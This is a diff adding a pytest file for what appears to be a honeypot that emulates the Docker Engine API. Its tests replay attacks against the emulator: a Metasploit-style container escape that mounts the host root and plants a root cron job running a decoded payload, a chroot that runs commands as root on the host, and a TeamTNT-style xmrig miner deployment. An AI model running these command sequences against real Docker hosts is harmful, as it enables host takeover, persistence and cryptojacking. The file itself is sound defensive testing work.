@@ -1,0 +1,197 @@
+"""The Docker Engine API: conversations with it, and the sequences of public tools up to what they came for."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+
+import pytest
+
+from mirage.world.host import Host
+from tests.unit.gateway.http.sites.conftest import Machine, begin
+
+
+@pytest.fixture
+async def docker(host: Host) -> Machine:
+    return begin(host, "docker")
+
+
+def _json(value: object) -> bytes:
+    return json.dumps(value).encode()
+
+
+async def test_metasploit_s_docker_daemon_tcp_gets_its_cron_job_onto_the_machine(docker: Machine) -> None:
+    """exploit/linux/http/docker_daemon_tcp: check, pull, create, start, wait, delete; then the machine's cron has the payload."""
+    check = await docker.ask("GET", "/containers/json", fields={"Accept": "application/json"})
+    assert (check.status, check.field("Server")) == (200, "Docker/20.10.24+dfsg1 (linux)")
+    assert b"alpine:latest" not in (await docker.ask("GET", "/images/json")).body
+    assert (await docker.ask("POST", "/images/create?fromImage=alpine:latest")).status == 200
+    command = (
+        "echo aGVsbG8K | base64 -d > /mnt/aaaa/tmp/payload && chmod +x /mnt/aaaa/tmp/payload && "
+        'echo "PATH=/sbin:/bin" >> /mnt/aaaa/etc/cron.d/job && echo "" >> /mnt/aaaa/etc/cron.d/job && '
+        'echo "* * * * * root /tmp/payload" >> /mnt/aaaa/etc/cron.d/job'
+    )
+    body = {
+        "Image": "alpine:latest",
+        "Cmd": command,
+        "Entrypoint": ["/bin/sh", "-c"],
+        "HostConfig": {"Binds": ["/:/mnt/aaaa"], "Privileged": True, "UsernsMode": "host"},
+    }
+    assert (await docker.ask("POST", "/containers/create?name=qwertyui", _json(body))).status == 201
+    assert (await docker.ask("POST", "/containers/qwertyui/start")).status == 204
+    wait = await docker.ask("POST", "/containers/qwertyui/wait")
+    assert (wait.status, wait.json) == (200, {"Error": None, "StatusCode": 0})
+    assert (await docker.ask("DELETE", "/containers/qwertyui")).status == 204
+    assert docker.read("/etc/cron.d/job") == b"PATH=/sbin:/bin\n\n* * * * * root /tmp/payload\n"
+    assert docker.read("/tmp/payload") == b"hello\n"
+
+
+async def test_docker_run_of_the_command_line_shows_what_the_program_says(docker: Machine) -> None:
+    """`docker run -v /:/mnt alpine chroot /mnt sh -c ...`: the client attaches, waits, starts, and reads to the end."""
+    assert (await docker.ask("HEAD", "/_ping")).field("Api-Version") == "1.41"
+    await docker.ask("POST", "/v1.41/images/create?fromImage=alpine&tag=latest")
+    body = {
+        "Image": "alpine",
+        "AttachStdout": True,
+        "AttachStderr": True,
+        "Cmd": ["chroot", "/mnt", "sh", "-c", "echo key > /root/.found; id"],
+        "HostConfig": {"Binds": ["/:/mnt"], "NetworkMode": "default", "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}},
+    }
+    identity = (await docker.ask("POST", "/v1.41/containers/create", _json(body))).json["Id"]
+    attached = docker.connect()
+    attached.say(
+        b"POST /v1.41/containers/%b/attach?stderr=1&stdout=1&stream=1 HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
+        b"Upgrade: tcp\r\nContent-Length: 0\r\nContent-Type: text/plain\r\n\r\n" % identity.encode()
+    )
+    await attached.rest()
+    assert attached.wire.sent.startswith(b"HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n")
+    waiting = asyncio.ensure_future(docker.ask("POST", f"/v1.41/containers/{identity}/wait?condition=next-exit", turns=100_000))
+    await asyncio.sleep(0)
+    assert (await docker.ask("POST", f"/v1.41/containers/{identity}/start")).status == 204
+    assert (await waiting).json["StatusCode"] == 0
+    await attached.rest()
+    assert attached.wire.sent.endswith(b"\x01\x00\x00\x00\x00\x00\x00\x27uid=0(root) gid=0(root) groups=0(root)\n")
+    assert docker.read("/root/.found") == b"key\n"
+
+
+async def test_a_miner_of_an_image_that_nobody_knows_stands_in_both_process_lists(docker: Machine) -> None:
+    """Kinsing's and TeamTNT's way: pull a miner's image, run it detached, restart always; then look whether it runs."""
+    await docker.ask("POST", "/images/create?fromImage=minerlabs/xmr&tag=latest")
+    body = {
+        "Image": "minerlabs/xmr",
+        "Cmd": ["xmrig", "-o", "pool.example.com:3333"],
+        "HostConfig": {"RestartPolicy": {"Name": "always"}},
+    }
+    identity = (await docker.ask("POST", "/containers/create", _json(body))).json["Id"]
+    assert (await docker.ask("POST", f"/containers/{identity}/start")).status == 204
+    listed = (await docker.ask("GET", "/containers/json")).json
+    assert [(entry["Id"], entry["State"], entry["Command"]) for entry in listed] == [
+        (identity, "running", "xmrig -o pool.example.com:3333")
+    ]
+    assert "xmrig -o pool.example.com:3333" in docker.processes()
+    assert (
+        f"/usr/bin/containerd-shim-runc-v2 -namespace moby -id {identity} -address /run/containerd/containerd.sock"
+        in docker.processes()
+    )
+    assert (await docker.ask("POST", f"/containers/{identity}/kill")).status == 204
+    assert "xmrig -o pool.example.com:3333" not in docker.processes()
+    assert (await docker.ask("GET", f"/containers/{identity}/json")).json["State"]["ExitCode"] == 137
+
+
+async def test_an_exec_runs_in_the_container_that_runs(docker: Machine) -> None:
+    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
+    await docker.ask("POST", "/containers/create?name=box", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
+    await docker.ask("POST", "/containers/box/start")
+    made = await docker.ask("POST", "/containers/box/exec", _json({"Cmd": ["cat", "/etc/alpine-release"], "AttachStdout": True}))
+    started = await docker.ask("POST", f"/exec/{made.json['Id']}/start", b'{"Detach":false,"Tty":false}')
+    assert (started.head.split(b"\r\n"), started.body) == (
+        [b"HTTP/1.1 200 OK", b"Content-Type: application/vnd.docker.raw-stream"],
+        b"\x01\x00\x00\x00\x00\x00\x00\x073.18.4\n",
+    )
+    assert (await docker.ask("GET", f"/exec/{made.json['Id']}/json")).json["ExitCode"] == 0
+    again = await docker.ask("POST", f"/exec/{made.json['Id']}/start", b'{"Detach":false,"Tty":false}')
+    assert again.body == b"\x01\x00\x00\x00\x00\x00\x00\x66Error: Exec command %b has already run\r\n" % made.json["Id"].encode()
+    assert (await docker.ask("DELETE", "/containers/box")).status == 409
+    assert (await docker.ask("DELETE", "/containers/box?force=1")).status == 204
+
+
+RECORDED = [  # of dockerd 20.10.24+dfsg1 in a namespace; dates as `...`
+    (
+        "GET /_ping", b"HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\nDocker-Experimental: false"
+        b"\r\nOstype: linux\r\nPragma: no-cache\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\nDate: ...\r\nContent-Length: 2"
+        b"\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close", b"OK",
+    ),
+    (
+        "GET /", b"HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nDate: ...\r\nContent-Length: 29\r\nConnection: close",
+        b'{"message":"page not found"}\n',
+    ),
+    (
+        "GET /v1.99/_ping", b"HTTP/1.1 400 Bad Request\r\nApi-Version: 1.41\r\nContent-Type: application/json\r\nOstype: linux\r\n"
+        b"Server: Docker/20.10.24+dfsg1 (linux)\r\nDate: ...\r\nContent-Length: 84\r\nConnection: close",
+        b'{"message":"client version 1.99 is too new. Maximum supported API version is 1.41"}\n',
+    ),
+    (
+        "GET /v1.1/_ping", b"HTTP/1.1 400 Bad Request\r\nApi-Version: 1.41\r\nContent-Type: text/plain; charset=utf-8\r\nOstype: linux\r\n"
+        b"Server: Docker/20.10.24+dfsg1 (linux)\r\nX-Content-Type-Options: nosniff\r\nDate: ...\r\nContent-Length: 116\r\nConnection: close",
+        b"client version 1.1 is too old. Minimum supported API version is 1.12, please upgrade your client to a newer version\n",
+    ),
+    ("GET //version", b"HTTP/1.1 301 Moved Permanently\r\nLocation: /version\r\nDate: ...\r\nContent-Length: 0\r\nConnection: close", b""),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("line", "head", "body"), RECORDED, ids=[line for line, _, _ in RECORDED])
+async def test_answers_are_the_recorded_ones_to_the_byte(docker: Machine, line: str, head: bytes, body: bytes) -> None:
+    answer = await docker.ask(*line.split(" "))
+    assert (answer.head, answer.body) == (head, body)
+
+
+FAULTS = [
+    ("POST", "/containers/create", b'{"Image":"nope"}', 404, "No such image: nope:latest"),
+    ("POST", "/containers/create", b'{"Image":"alpine"', 500, "unexpected EOF"),
+    ("POST", "/containers/create", b"{x", 500, "invalid character 'x' looking for beginning of object key string"),
+    ("POST", "/containers/create", b"{}", 400, "Config cannot be empty in order to create a container"),
+    (
+        "POST", "/containers/create", b'{"Image":1}', 500,
+        "json: cannot unmarshal number into Go struct field ContainerConfigWrapper.Image of type string",
+    ),
+    ("POST", "/containers/create?name=f!", b'{"Image":"a"}', 400, "Invalid container name (f!), only [a-zA-Z0-9][a-zA-Z0-9_.-] are allowed"),
+    ("GET", "/images/nope/json", None, 404, "no such image: nope: No such image: nope:latest"),
+    ("GET", "/containers/nope/json", None, 404, "No such container: nope"),
+    ("POST", "/exec/nope/start", b'{"Detach":true}', 404, "No such exec instance: nope"),
+    ("POST", "/build", b"", 500, "Cannot locate specified Dockerfile: Dockerfile"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("method", "target", "body", "status", "message"), FAULTS)
+async def test_faults_are_told_in_the_recorded_words(
+    docker: Machine, method: str, target: str, body: bytes | None, status: int, message: str
+) -> None:  # fmt: skip
+    answer = await docker.ask(method, target, body)
+    assert (answer.status, answer.json) == (status, {"message": message})
+
+
+async def test_a_program_that_the_image_does_not_have_is_refused_at_the_start(docker: Machine) -> None:
+    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
+    identity = (await docker.ask("POST", "/containers/create", _json({"Image": "alpine", "Cmd": ["nope"]}))).json["Id"]
+    answer = await docker.ask("POST", f"/containers/{identity}/start")
+    text = (
+        "failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: "
+        'exec: "nope": executable file not found in $PATH: unknown'
+    )
+    assert (answer.status, answer.json) == (400, {"message": text})
+    assert not (await docker.ask("GET", "/containers/json")).json
+
+
+async def test_what_a_container_said_is_in_its_log_file_and_in_its_logs(docker: Machine) -> None:
+    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
+    body = _json({"Image": "alpine", "Cmd": ["sh", "-c", "echo out; echo err >&2"]})
+    identity = (await docker.ask("POST", "/containers/create", body)).json["Id"]
+    await docker.ask("POST", f"/containers/{identity}/start")
+    await docker.ask("POST", f"/containers/{identity}/wait")
+    logs = await docker.ask("GET", f"/containers/{identity}/logs?stdout=1&stderr=1")
+    assert logs.body == b"\x01\x00\x00\x00\x00\x00\x00\x04out\n\x02\x00\x00\x00\x00\x00\x00\x04err\n"
+    kept = docker.read(f"/var/lib/docker/containers/{identity}/{identity}-json.log")
+    assert [json.loads(line)["log"] for line in kept.splitlines()] == ["out\n", "err\n"]
+    assert (await docker.ask("GET", f"/containers/{identity}/logs")).json == {
+        "message": "Bad parameters: you must choose at least one stream"
+    }
